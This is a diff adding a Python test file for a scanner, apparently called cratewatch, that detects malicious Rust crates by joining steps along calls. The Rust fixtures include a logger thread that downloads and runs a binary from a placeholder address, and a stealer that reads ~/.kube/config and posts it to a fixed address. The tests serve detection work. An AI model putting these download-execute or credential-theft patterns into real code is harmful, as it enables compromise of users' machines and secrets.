@@ -1,0 +1,167 @@
+"""Flows joined along the crate's own calls: across functions, threads and files, with
+the limits that keep ordinary programs from joining unrelated steps."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from cratewatch.scan.callgraph import CallGraph, file_functions
+from cratewatch.scan.crate import CrateScan, scan_path
+
+MANIFEST = '[package]\nname = "logflux"\nversion = "0.3.1"\n'
+
+# A logger whose background thread fetches a program and starts it; each step in a
+# helper of its own, in two files (inert: a documentation address).
+LIB = """
+mod fetch;
+mod run;
+
+pub struct Logger;
+
+impl Logger {
+    pub fn init() -> Logger {
+        std::thread::spawn(refresh);
+        Logger
+    }
+}
+
+fn refresh() {
+    if let Some(blob) = fetch::get("http://192.0.2.7/agent") {
+        run::launch(&blob);
+    }
+}
+"""
+FETCH = """
+pub fn get(url: &str) -> Option<Vec<u8>> {
+    let body = ureq::get(url).call().ok()?;
+    let mut out = Vec::new();
+    body.into_reader().read_to_end(&mut out).ok()?;
+    Some(out)
+}
+"""
+RUN = """
+use std::process::Command;
+
+pub fn launch(blob: &[u8]) {
+    let path = std::env::temp_dir().join(".flux");
+    let _ = std::fs::write(&path, blob);
+    let _ = Command::new(&path).spawn();
+}
+"""
+
+
+def scan(tmp_path: Path, files: dict[str, str]) -> CrateScan:
+    crate = tmp_path / "crate"
+    for name, text in {"Cargo.toml": MANIFEST, **files}.items():
+        (crate / name).parent.mkdir(parents=True, exist_ok=True)
+        (crate / name).write_text(text)
+    return scan_path(crate)
+
+
+def joined(result: CrateScan, rule: str) -> list[str]:
+    return [
+        f"{e.file}:{e.line} {e.snippet}"
+        for e in result.findings
+        if e.rule == rule and "joins along calls" in e.snippet
+    ]
+
+
+def test_download_and_execute_in_helpers_of_other_files_are_one_flow(tmp_path: Path) -> None:
+    result = scan(tmp_path, {"src/lib.rs": LIB, "src/fetch.rs": FETCH, "src/run.rs": RUN})
+    flows = joined(result, "threat-download-execute")
+    assert len(flows) == 1, result.findings
+    assert flows[0].startswith("src/lib.rs:14 fn refresh joins along calls: ")
+    assert "refresh → get: network (src/fetch.rs:3)" in flows[0]
+    assert "refresh → launch: process-spawn (src/run.rs:7)" in flows[0]
+
+
+def test_a_function_handed_to_a_thread_is_called_there(tmp_path: Path) -> None:
+    lib = LIB.replace("std::thread::spawn(refresh);", "std::thread::spawn(move || poll());")
+    lib = lib.replace("fn refresh()", "fn poll()")
+    result = scan(tmp_path, {"src/lib.rs": lib, "src/fetch.rs": FETCH, "src/run.rs": RUN})
+    assert joined(result, "threat-download-execute")
+
+
+def test_steps_no_call_joins_are_not_a_flow(tmp_path: Path) -> None:
+    lib = LIB.replace("run::launch(&blob);", "let _ = blob;")
+    result = scan(tmp_path, {"src/lib.rs": lib, "src/fetch.rs": FETCH, "src/run.rs": RUN})
+    assert joined(result, "threat-download-execute") == []
+
+
+def test_a_flow_spread_over_large_functions_is_not_joined(tmp_path: Path) -> None:
+    """A tool that downloads in one subsystem and runs commands in another is not a
+    payload spread over helpers."""
+    padding = "\n".join(f"    let _v{n} = {n};" for n in range(250))
+    fetch = FETCH.replace("Some(out)", padding + "\n    Some(out)")
+    run = RUN.replace("let path", padding + "\n    let path")
+    result = scan(tmp_path, {"src/lib.rs": LIB, "src/fetch.rs": fetch, "src/run.rs": run})
+    assert joined(result, "threat-download-execute") == []
+
+
+def test_the_build_script_and_the_library_are_apart(tmp_path: Path) -> None:
+    """The build script cannot call the library's functions: no flow joins the two."""
+    build = 'fn main() { helper(); }\nfn helper() { let _ = std::process::Command::new("cc"); }\n'
+    lib = 'pub fn helper() -> Option<()> { let _ = ureq::get("http://192.0.2.7/"); None }\n'
+    result = scan(tmp_path, {"build.rs": build, "src/lib.rs": lib})
+    assert joined(result, "threat-download-execute") == []
+
+
+def test_credentials_sent_along_calls_need_a_destination_of_the_crate_s_own(
+    tmp_path: Path,
+) -> None:
+    """A kubeconfig tool reads credentials and talks to the server they name; a stealer
+    sends them to its own address."""
+    lib = """
+    mod creds;
+    pub fn sync() { let key = creds::load(); send(&key); }
+    fn send(body: &str) { let _ = ureq::post(&server()).send_string(body); }
+    fn server() -> String { std::env::var("KUBE_SERVER").unwrap_or_default() }
+    """
+    creds = """
+    pub fn load() -> String {
+        let home = std::env::var("HOME").unwrap_or_default();
+        std::fs::read_to_string(format!("{home}/.kube/config")).unwrap_or_default()
+    }
+    """
+    tool = scan(tmp_path / "tool", {"src/lib.rs": lib, "src/creds.rs": creds})
+    assert joined(tool, "threat-credential-exfiltration") == []
+    stealer_lib = lib.replace(
+        'std::env::var("KUBE_SERVER").unwrap_or_default()', '"http://198.51.100.9/k".into()'
+    )
+    stealer = scan(tmp_path / "stealer", {"src/lib.rs": stealer_lib, "src/creds.rs": creds})
+    assert joined(stealer, "threat-credential-exfiltration")
+
+
+def test_entry_points_are_named(tmp_path: Path) -> None:
+    source = b"""
+    struct Guard;
+    impl Drop for Guard { fn drop(&mut self) { beacon(); } }
+    #[used]
+    #[link_section = ".init_array"]
+    static INIT: extern "C" fn() = boot;
+    extern "C" fn boot() {}
+    pub fn api() {}
+    fn private() {}
+    #[proc_macro_derive(Thing)]
+    pub fn derive(input: TokenStream) -> TokenStream { input }
+    fn beacon() {}
+    """
+    entries = {f.name: f.entry for f in file_functions("src/lib.rs", source, True)}
+    assert entries == {
+        "drop": "Drop (runs when a value is dropped)",
+        "boot": "load-time initialiser",
+        "api": "public function",
+        "private": "",
+        "derive": "procedural macro",
+        "beacon": "",
+    }
+
+
+def test_ambiguous_names_are_not_followed() -> None:
+    """``x.new()`` could be any of many ``new``: following all would join everything."""
+    source = (
+        "\n".join(f"impl T{n} {{ fn new() {{}} }}" for n in range(6)) + "\nfn f() { T0::new(); }"
+    )
+    graph = CallGraph(file_functions("src/lib.rs", source.encode(), False))
+    caller = next(i for i, f in enumerate(graph.functions) if f.name == "f")
+    assert graph.callees[caller] == ()
